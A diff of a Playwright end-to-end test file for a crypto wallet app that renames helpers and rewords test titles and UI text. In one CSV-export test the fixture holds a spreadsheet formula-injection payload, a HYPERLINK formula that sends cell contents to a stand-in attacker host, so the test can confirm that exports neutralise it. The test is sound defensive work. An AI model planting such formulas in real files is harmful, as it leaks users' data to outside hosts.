@@ -1,33 +1,33 @@
 import { readFile } from 'node:fs/promises'
 import type { DataOf } from '@lode/wire'
 import type { Locator, Page } from '@playwright/test'
-import { switchTo } from '../browser/appearance.ts'
-import { comeBackLater } from '../browser/background.ts'
-import { everything, fillBooks } from '../browser/books.ts'
+import { switchAppearance } from '../browser/appearance.ts'
 import { copiedText, limitClipboard } from '../browser/clipboard.ts'
-import { withIncoming, withoutPrices, withPricesOf } from '../browser/screens.ts'
-import { countDownloads, giveShareSheet, sharedFiles } from '../browser/share-files.ts'
-import { signIn } from '../browser/sign-in.ts'
+import { returnToForeground } from '../browser/foreground.ts'
+import { fullHistory, postHistory } from '../browser/post-history.ts'
+import { mockIncomingDeposit, mockMissingPrices, mockOldPrices } from '../browser/screens.ts'
+import { countDownloads, mockShareSheet, readSharedFiles } from '../browser/share-files.ts'
+import { signInPage } from '../browser/sign-in.ts'
 import { expect, test } from '../browser/test.ts'
 
 const LOG = /\/api\/wallet\/log/
 const ASSETS = /\/api\/wallet\/assets/
 
-type Line = DataOf<'wallet/log'>['lines'][number]
+type LogLine = DataOf<'wallet/log'>['lines'][number]
 
-const many = (count: number) =>
+const makeDeposits = (count: number) =>
   Array.from({ length: count }, (_, place) => ({ received: `${place + 1}`, asset: 'USDT' as const }))
 
 /** The visible view. Hidden views are kept and have a `main` too. */
-const shown = (page: Page): Locator => page.locator('main:visible')
-const linesOf = (page: Page): Locator => shown(page).getByRole('listitem')
+const visibleMain = (page: Page): Locator => page.locator('main:visible')
+const linesOf = (page: Page): Locator => visibleMain(page).getByRole('listitem')
 const amountsOf = async (page: Page) =>
   (await linesOf(page).allInnerTexts()).map((text) => /[+−][\d,.]+/.exec(text)?.[0] ?? '')
 
-const scrollToEnd = (page: Page) => shown(page).evaluate((main) => main.scrollTo(0, main.scrollHeight))
+const scrollToEnd = (page: Page) => visibleMain(page).evaluate((main) => main.scrollTo(0, main.scrollHeight))
 
 /** Changes the lines in every answer of the log. */
-const changeLines = (page: Page, change: (line: Line, place: number) => Line) =>
+const changeLines = (page: Page, change: (line: LogLine, place: number) => LogLine) =>
   page.route(LOG, async (route) => {
     const response = await route.fetch()
     const body = (await response.json()) as { data: DataOf<'wallet/log'> }
@@ -38,14 +38,14 @@ const changeLines = (page: Page, change: (line: Line, place: number) => Line) =>
 test.afterEach(({ page }) => page.unrouteAll({ behavior: 'ignoreErrors' }))
 
 test.describe('the wallet', () => {
-  test('shows each asset, what of it is frozen, what it is worth, and the total', async ({
+  test('shows each asset with its frozen part and its value, and the total', async ({
     page,
     stack,
     register,
     enter,
   }) => {
     const member = await register()
-    await fillBooks(stack, member, everything)
+    await postHistory(stack, member, fullHistory)
     await enter(member)
     await page.goto('/home')
     await expect(page.getByRole('link', { name: /Total asset value/ })).toContainText(/1,\d{3}\.\d{2} USDT/)
@@ -54,63 +54,63 @@ test.describe('the wallet', () => {
 
     const usdt = page.getByRole('link', { name: /^USDT/ })
     await expect(usdt).toContainText('1,210.50')
-    await expect(usdt).toContainText('In all ≈ 1,330.50 USDT')
+    await expect(usdt).toContainText('Total ≈ 1,330.50 USDT')
     await expect(page.getByRole('link', { name: /^BTN/ })).toContainText('132,400.75')
     await expect(page.getByRole('link', { name: /^BTC/ })).toContainText('0.00418721')
 
     const frozen = page.getByRole('button', { name: 'Frozen 120.00' })
-    await expect(shown(page).getByText('On its way out')).toBeHidden()
+    await expect(visibleMain(page).getByText('On its way out')).toBeHidden()
     await frozen.click()
-    await expect(shown(page).getByText('On its way out')).toBeVisible()
-    await expect(shown(page).getByText('Reserved for orders')).toBeVisible()
-    await expect(shown(page).getByText('Pledged', { exact: true })).toBeVisible()
-    await expect(shown(page)).toContainText('Price feed')
+    await expect(visibleMain(page).getByText('On its way out')).toBeVisible()
+    await expect(visibleMain(page).getByText('Reserved for orders')).toBeVisible()
+    await expect(visibleMain(page).getByText('Pledged', { exact: true })).toBeVisible()
+    await expect(visibleMain(page)).toContainText('Price feed')
   })
 
-  test('without a price says so, and what the total leaves out', async ({ page, stack, register, enter }) => {
+  test('says which price is missing, and what the total leaves out', async ({ page, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, everything)
+    await postHistory(stack, member, fullHistory)
     await enter(member)
-    await withoutPrices(page)
+    await mockMissingPrices(page)
     await page.goto('/wallet')
-    await expect(shown(page)).toContainText('1,330.50 USDT')
-    await expect(shown(page)).toContainText('Without BTN, BTC: price unavailable')
+    await expect(visibleMain(page)).toContainText('1,330.50 USDT')
+    await expect(visibleMain(page)).toContainText('Excludes BTN, BTC (no price)')
     await expect(page.getByRole('link', { name: /^BTC/ })).toContainText('Price unavailable')
   })
 
-  test('says how old its prices are where they are older than a day, wherever something is valued, in each language', async ({
+  test('shows the age of prices older than a day wherever a value is shown, in each language', async ({
     page,
     stack,
     register,
     enter,
   }) => {
     const member = await register()
-    await fillBooks(stack, member, everything)
+    await postHistory(stack, member, fullHistory)
     await enter(member)
     await page.goto('/home')
     const total = page.getByRole('link', { name: /Total asset value/ })
     await expect(total).toContainText(/1,\d{3}\.\d{2} USDT/)
     await expect(total).not.toContainText('old')
 
-    await withPricesOf(page, 4.2)
+    await mockOldPrices(page, 4.2)
     await page.reload()
     await expect(total).toContainText('Prices are 4 days old.')
     for (const path of ['/wallet', '/wallet/detail?symbol=BTC', '/wallet/statement']) {
       await page.goto(path)
-      await expect(shown(page).getByText('Prices are 4 days old.')).toBeVisible()
+      await expect(visibleMain(page).getByText('Prices are 4 days old.')).toBeVisible()
     }
     await page.goto('/wallet/detail?symbol=USDT')
-    await expect(shown(page)).toContainText('1,210.50')
-    await expect(shown(page)).not.toContainText('Prices are')
+    await expect(visibleMain(page)).toContainText('1,210.50')
+    await expect(visibleMain(page)).not.toContainText('Prices are')
 
     await page.goto('/wallet')
-    await switchTo(page, { theme: 'paper', language: 'zh_tw' })
-    await expect(shown(page)).toContainText('價格已超過 4 天未更新。')
-    await switchTo(page, { theme: 'paper', language: 'zh_cn' })
-    await expect(shown(page)).toContainText('价格已超过 4 天未更新。')
+    await switchAppearance(page, { theme: 'paper', language: 'zh_tw' })
+    await expect(visibleMain(page)).toContainText('價格已超過 4 天未更新。')
+    await switchAppearance(page, { theme: 'paper', language: 'zh_cn' })
+    await expect(visibleMain(page)).toContainText('价格已超过 4 天未更新。')
   })
 
-  test('that cannot be loaded says why, and is loaded at another try', async ({ page, register, enter }) => {
+  test('shows why it cannot be loaded, and loads on retry', async ({ page, register, enter }) => {
     await enter(await register())
     await page.route(ASSETS, (route) =>
       route.fulfill({ status: 403, json: { code: 403, message: '', data: null, reason: 'account-mismatch' } }),
@@ -122,7 +122,7 @@ test.describe('the wallet', () => {
     await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('Value ≈ 0.00 USDT')
   })
 
-  test('holds its shape while it is loading', async ({ page, register, enter }) => {
+  test('keeps its layout while loading', async ({ page, register, enter }) => {
     await enter(await register())
     const { promise: answered, resolve: answer } = Promise.withResolvers<void>()
     await page.route(ASSETS, async (route) => {
@@ -132,7 +132,7 @@ test.describe('the wallet', () => {
     await page.goto('/wallet')
     const card = page.getByRole('link', { name: /^USDT/ })
     await expect(card).toBeVisible()
-    await expect(shown(page).getByText('Loading...')).toBeAttached()
+    await expect(visibleMain(page).getByText('Loading...')).toBeAttached()
     const place = async () => Math.round((await card.boundingBox())?.y ?? 0)
     const before = await place()
     answer()
@@ -140,27 +140,18 @@ test.describe('the wallet', () => {
     expect(await place()).toBe(before)
   })
 
-  test('that could not be refreshed says how old it is, and says it in no toast', async ({
-    page,
-    register,
-    enter,
-    toasts,
-  }) => {
+  test('says how old it is if it cannot be refreshed, without a toast', async ({ page, register, enter, toasts }) => {
     await enter(await register())
     await page.clock.install()
     await page.goto('/wallet')
     await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('Value ≈ 0.00 USDT')
     await page.route(ASSETS, (route) => route.fulfill({ status: 500, json: {} }))
-    await comeBackLater(page)
-    await expect(shown(page)).toContainText('Could not be refreshed. Shown as of')
+    await returnToForeground(page)
+    await expect(visibleMain(page)).toContainText('Could not be refreshed. Shown as of')
     expect(toasts).toEqual([])
   })
 
-  test('asks again by itself: every 30 seconds, and every 5 while something is confirming', async ({
-    page,
-    register,
-    enter,
-  }) => {
+  test('refreshes every 30 seconds, and every 5 while a deposit is confirming', async ({ page, register, enter }) => {
     await enter(await register())
     await page.clock.install()
     let asked = 0
@@ -171,25 +162,20 @@ test.describe('the wallet', () => {
     await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('Value ≈ 0.00 USDT')
     await page.clock.runFor(29_000)
     expect(asked).toBe(1)
-    await withIncoming(page)
+    await mockIncomingDeposit(page)
     await page.clock.runFor(2_000)
     await expect.poll(() => asked).toBe(2)
-    await expect(shown(page)).toContainText('+25,000.00')
+    await expect(visibleMain(page)).toContainText('+25,000.00')
     await page.clock.runFor(6_000)
     await expect.poll(() => asked).toBe(3)
   })
 
-  test('for whoever takes assets out is where the sign-in ends, and says why', async ({
-    page,
-    register,
-    disable,
-    giveWallet,
-  }) => {
+  test('is the first page of an exit session, and says why', async ({ page, register, disable, giveWallet }) => {
     const member = await register()
     await giveWallet({ account: member.account })
     await disable(member)
     await page.goto('/login')
-    await signIn(page)
+    await signInPage(page)
       .wallet(/Plain Wallet/)
       .click()
     await page.getByRole('button', { name: 'Take your assets out' }).click()
@@ -207,9 +193,9 @@ test.describe('the wallet', () => {
 })
 
 test.describe('the asset log', () => {
-  test('is loaded as the member scrolls, each line once, to its end', async ({ page, stack, register, enter }) => {
+  test('is loaded to its end as the member scrolls, each line once', async ({ page, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, many(65))
+    await postHistory(stack, member, makeDeposits(65))
     await enter(member)
     await page.goto('/wallet/detail?symbol=USDT')
     await expect(linesOf(page).first()).toContainText('+65.00')
@@ -220,9 +206,14 @@ test.describe('the asset log', () => {
     expect(await amountsOf(page)).toEqual(Array.from({ length: 65 }, (_, place) => `+${65 - place}.00`))
   })
 
-  test('whose next page fails says so and asks again only when told to', async ({ page, stack, register, enter }) => {
+  test('shows an error if the next page fails, and loads it only on retry', async ({
+    page,
+    stack,
+    register,
+    enter,
+  }) => {
     const member = await register()
-    await fillBooks(stack, member, many(25))
+    await postHistory(stack, member, makeDeposits(25))
     await enter(member)
     let asked = 0
     await page.route(/wallet\/log.*cursor=/, (route) => {
@@ -240,9 +231,9 @@ test.describe('the asset log', () => {
     await expect(page.getByText('No more data available')).toBeVisible()
   })
 
-  test('can also be gone through by a press', async ({ page, stack, register, enter }) => {
+  test('can also be loaded with a button', async ({ page, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, many(25))
+    await postHistory(stack, member, makeDeposits(25))
     await enter(member)
     // Some in-app browsers have IntersectionObserver but never call back.
     await page.addInitScript(() => {
@@ -256,14 +247,14 @@ test.describe('the asset log', () => {
     await expect(linesOf(page)).toHaveCount(25)
   })
 
-  test('is filtered by type and status, and keeps its filters while another page is open', async ({
+  test('can be filtered by type and status, and keeps its filters while another page is open', async ({
     page,
     stack,
     register,
     enter,
   }) => {
     const member = await register()
-    await fillBooks(stack, member, everything)
+    await postHistory(stack, member, fullHistory)
     await enter(member)
     await page.goto('/wallet')
     await page.getByRole('link', { name: /^USDT/ }).click()
@@ -283,10 +274,10 @@ test.describe('the asset log', () => {
     await expect(linesOf(page)).toHaveCount(1)
     await page.getByLabel('Type').selectOption('Pledge created')
     await expect(page.getByRole('heading', { name: 'No data yet' })).toBeVisible()
-    await expect(shown(page)).toContainText('No line matches these filters.')
+    await expect(visibleMain(page)).toContainText('No entry matches these filters.')
   })
 
-  test('of another symbol begins anew, and there is none for a symbol that is none', async ({
+  test('is empty for an asset without entries, and does not exist for an unknown symbol', async ({
     page,
     register,
     enter,
@@ -296,19 +287,19 @@ test.describe('the asset log', () => {
     await expect(page.getByRole('heading', { name: 'BTC', exact: true })).toBeVisible()
     await expect(page.getByRole('heading', { name: 'No data yet' })).toBeVisible()
     await page.goto('/wallet/detail?symbol=DOGE')
-    await expect(page.getByRole('heading', { name: 'There is no such asset' })).toBeVisible()
-    await page.getByRole('button', { name: 'To the wallet' }).click()
+    await expect(page.getByRole('heading', { name: 'Asset not found' })).toBeVisible()
+    await page.getByRole('button', { name: 'Go to Wallet' }).click()
     await expect(page).toHaveURL('/wallet')
   })
 
-  test('shows a deposit that is seen, for how long, and the same line once it is final', async ({
+  test('shows a seen deposit with its waiting time, and the same line once it is final', async ({
     page,
     stack,
     register,
     enter,
   }) => {
     const member = await register()
-    await fillBooks(stack, member, [{ received: '25000', asset: 'BTN' }])
+    await postHistory(stack, member, [{ received: '25000', asset: 'BTN' }])
     await enter(member)
     await page.clock.install()
     const at = new Date(Date.now() - 190_000).toISOString()
@@ -316,7 +307,7 @@ test.describe('the asset log', () => {
     await page.goto('/wallet/detail?symbol=BTN')
     const line = linesOf(page)
     await expect(line).toContainText('Confirming')
-    await expect(line).toContainText('Seen; usually final in about')
+    await expect(line).toContainText('Detected; usually final in about')
     await expect(line).toContainText('3 min so far.')
     await page.clock.runFor(60_000)
     await expect(line).toContainText('4 min so far.')
@@ -338,10 +329,10 @@ test.describe('the asset log', () => {
   }) => {
     await context.grantPermissions(['clipboard-read', 'clipboard-write'])
     const member = await register()
-    await fillBooks(stack, member, [{ received: '5', asset: 'USDT' }])
+    await postHistory(stack, member, [{ received: '5', asset: 'USDT' }])
     await enter(member)
     await page.goto('/wallet/detail?symbol=USDT')
-    await page.getByRole('button', { name: 'Copy the transaction hash' }).click()
+    await page.getByRole('button', { name: 'Copy transaction hash' }).click()
     await expect.poll(() => toasts).toEqual(['Copy successful'])
     const hash = await page.evaluate(() => navigator.clipboard.readText())
     expect(hash).toMatch(/^0x[0-9a-f]{64}$/)
@@ -357,23 +348,23 @@ test.describe('the asset log', () => {
     await expect(link).toHaveAttribute('rel', 'noreferrer')
   })
 
-  test('shows a type that it does not know as undefined', async ({ page, stack, register, enter }) => {
+  test('shows an unknown type as undefined', async ({ page, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, [{ received: '5', asset: 'USDT' }])
+    await postHistory(stack, member, [{ received: '5', asset: 'USDT' }])
     await enter(member)
     await changeLines(page, (line) => ({ ...line, type: 'fromTheFuture' }))
     await page.goto('/wallet/detail?symbol=USDT')
     await expect(linesOf(page)).toContainText('Undefined')
   })
 
-  test('is pulled down, or refreshed by its button, for what is new', async ({ page, stack, register, enter }) => {
+  test('refreshes by pulling down or with its button', async ({ page, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, many(1))
+    await postHistory(stack, member, makeDeposits(1))
     await enter(member)
     await page.goto('/wallet/detail?symbol=USDT')
     await expect(linesOf(page)).toHaveCount(1)
     const pull = async (distance: number) => {
-      const main = shown(page)
+      const main = visibleMain(page)
       const touch = (type: string, y: number) =>
         main.evaluate(
           (target, [name, clientY]) => {
@@ -388,36 +379,36 @@ test.describe('the asset log', () => {
       await expect(main.getByText(distance > 112 ? 'Release to refresh' : 'Pull down to refresh')).toBeVisible()
       await touch('touchend', 0)
     }
-    await fillBooks(stack, member, [{ received: '2', asset: 'USDT' }])
+    await postHistory(stack, member, [{ received: '2', asset: 'USDT' }])
     await pull(60)
     await expect(linesOf(page), 'not far enough').toHaveCount(1)
     await pull(160)
     await expect(linesOf(page)).toHaveCount(2)
-    await expect(shown(page)).toContainText('3.00 USDT')
+    await expect(visibleMain(page)).toContainText('3.00 USDT')
 
-    await fillBooks(stack, member, [{ received: '3', asset: 'USDT' }])
+    await postHistory(stack, member, [{ received: '3', asset: 'USDT' }])
     await page.getByRole('button', { name: 'Refresh' }).click()
     await expect(linesOf(page)).toHaveCount(3)
   })
 
-  test('is loaded when the network is back', async ({ page, context, stack, register, enter }) => {
+  test('loads when the network is back', async ({ page, context, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, everything)
+    await postHistory(stack, member, fullHistory)
     await enter(member)
     await page.goto('/wallet')
     await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('1,210.50')
     await context.setOffline(true)
     await page.getByRole('link', { name: /^USDT/ }).click()
     await expect(page.getByRole('heading', { name: 'You are offline' })).toBeVisible()
-    await expect(shown(page)).toContainText('The log will be loaded as soon as the network is back.')
-    await expect(shown(page), 'what is known stays').toContainText('1,210.50')
+    await expect(visibleMain(page)).toContainText('The log will load when the network is back.')
+    await expect(visibleMain(page), 'what is known stays').toContainText('1,210.50')
     await context.setOffline(false)
     await expect(linesOf(page)).toHaveCount(4)
   })
 
-  test('that cannot be loaded says why, and is loaded at another try', async ({ page, stack, register, enter }) => {
+  test('shows why it cannot be loaded, and loads on retry', async ({ page, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, everything)
+    await postHistory(stack, member, fullHistory)
     await enter(member)
     await page.route(LOG, (route) =>
       route.fulfill({ status: 429, json: { code: 429, message: '', data: null, reason: 'rate-limited' } }),
@@ -435,9 +426,9 @@ test.describe('the asset log', () => {
     ['zh_cn', '没有更多数据了', '暂无数据', '转入'],
   ] as const
   for (const [lang, end, empty, type] of words) {
-    test(`speaks ${lang}`, async ({ page, stack, register, enter }) => {
+    test(`is translated into ${lang}`, async ({ page, stack, register, enter }) => {
       const member = await register({ lang })
-      await fillBooks(stack, member, [{ received: '5', asset: 'USDT' }])
+      await postHistory(stack, member, [{ received: '5', asset: 'USDT' }])
       await enter(member)
       await page.goto('/wallet/detail?symbol=USDT')
       await expect(linesOf(page)).toContainText(type)
@@ -449,16 +440,16 @@ test.describe('the asset log', () => {
 })
 
 test.describe('the log as a file', () => {
-  const save = (page: Page) => page.getByRole('button', { name: 'Save the log as a CSV file' })
+  const save = (page: Page) => page.getByRole('button', { name: 'Save log as CSV' })
 
-  test('has every line of the filter, and no cell that a spreadsheet would run', async ({
+  test('has every line of the filter, and no cell that a spreadsheet would execute', async ({
     page,
     stack,
     register,
     enter,
   }) => {
     const member = await register()
-    await fillBooks(stack, member, [...many(230), { sent: '10', fee: '1' }])
+    await postHistory(stack, member, [...makeDeposits(230), { sent: '10', fee: '1' }])
     await enter(member)
     const hostile = '=HYPERLINK("http://evil.example?"&A1,"Click")'
     await changeLines(page, (line) => (line.amount === '230' ? { ...line, id: hostile } : line))
@@ -467,7 +458,7 @@ test.describe('the log as a file', () => {
     await expect(linesOf(page).first()).toContainText('+230.00')
     const [download] = await Promise.all([page.waitForEvent('download'), save(page).click()])
     expect(download.suggestedFilename()).toMatch(/^lode-USDT-\d{4}-\d\d-\d\d\.csv$/)
-    await expect(page.getByText('230 lines. The download was handed to your browser.')).toBeVisible()
+    await expect(page.getByText('230 lines. Your browser is downloading it.')).toBeVisible()
     await expect(page.getByText('Saved')).toHaveCount(0)
 
     const text = await readFile(await download.path(), 'utf8')
@@ -478,17 +469,10 @@ test.describe('the log as a file', () => {
     expect(text).not.toMatch(/(^|,|\n)"?[=+@]/m)
   })
 
-  test('is shown as text to copy, where a download came to nothing', async ({
-    page,
-    context,
-    stack,
-    register,
-    enter,
-    toasts,
-  }) => {
+  test('is shown as text to copy if the download fails', async ({ page, context, stack, register, enter, toasts }) => {
     await context.grantPermissions(['clipboard-read', 'clipboard-write'])
     const member = await register()
-    await fillBooks(stack, member, many(3))
+    await postHistory(stack, member, makeDeposits(3))
     await enter(member)
     await page.goto('/wallet/detail?symbol=USDT')
     await expect(linesOf(page)).toHaveCount(3)
@@ -502,15 +486,10 @@ test.describe('the log as a file', () => {
     expect(await copiedText(page, context)).toContain('Transfer in,')
   })
 
-  test('that is shown and cannot be copied is selected, to be copied by hand', async ({
-    page,
-    stack,
-    register,
-    enter,
-  }) => {
+  test('shown as text is selected for copying by hand if copying fails', async ({ page, stack, register, enter }) => {
     await limitClipboard(page, { api: 'denied', execCommand: 'fails' })
     const member = await register()
-    await fillBooks(stack, member, many(3))
+    await postHistory(stack, member, makeDeposits(3))
     await enter(member)
     await page.goto('/wallet/detail?symbol=USDT')
     await expect(linesOf(page)).toHaveCount(3)
@@ -525,31 +504,31 @@ test.describe('the log as a file', () => {
     expect(length).toBe((await field.inputValue()).length)
   })
 
-  test('goes to the share sheet of a phone; put away, nothing is said to be saved', async ({
+  test('opens the share sheet of a phone; if that is closed, the app does not say that the file was saved', async ({
     page,
     stack,
     register,
     enter,
   }) => {
-    await giveShareSheet(page, 'put away')
+    await mockShareSheet(page, 'put away')
     const member = await register()
-    await fillBooks(stack, member, many(3))
+    await postHistory(stack, member, makeDeposits(3))
     await enter(member)
     await page.goto('/wallet/detail?symbol=USDT')
     await expect(linesOf(page)).toHaveCount(3)
     const downloads = countDownloads(page)
     await save(page).click()
     await expect
-      .poll(() => sharedFiles(page))
+      .poll(() => readSharedFiles(page))
       .toMatchObject([{ name: expect.stringMatching(/\.csv$/), type: 'text/csv' }])
     await expect(save(page)).toBeEnabled()
     await expect(page.getByText(/handed|lines\./i)).toHaveCount(0)
     expect(downloads()).toBe(0)
   })
 
-  test('has what left as a negative number', async ({ page, stack, register, enter }) => {
+  test('shows outgoing amounts as negative numbers', async ({ page, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, everything)
+    await postHistory(stack, member, fullHistory)
     await enter(member)
     await page.goto('/wallet/detail?symbol=USDT')
     await expect(linesOf(page)).toHaveCount(4)
@@ -558,9 +537,9 @@ test.describe('the log as a file', () => {
     expect(rows[1]).toMatch(/,Transfer out,Confirming,-119,1,USDT,,,/)
   })
 
-  test('shows how far it is, and can be cancelled', async ({ page, stack, register, enter }) => {
+  test('shows its progress, and can be canceled', async ({ page, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, many(120))
+    await postHistory(stack, member, makeDeposits(120))
     await enter(member)
     await page.goto('/wallet/detail?symbol=USDT')
     await expect(linesOf(page).first()).toContainText('+120.00')
@@ -577,9 +556,9 @@ test.describe('the log as a file', () => {
     expect(downloads).toBe(0)
   })
 
-  test('that cannot be made says why', async ({ page, stack, register, enter }) => {
+  test('shows why it cannot be made', async ({ page, stack, register, enter }) => {
     const member = await register()
-    await fillBooks(stack, member, many(2))
+    await postHistory(stack, member, makeDeposits(2))
     await enter(member)
     await page.goto('/wallet/detail?symbol=USDT')
     await expect(linesOf(page)).toHaveCount(2)
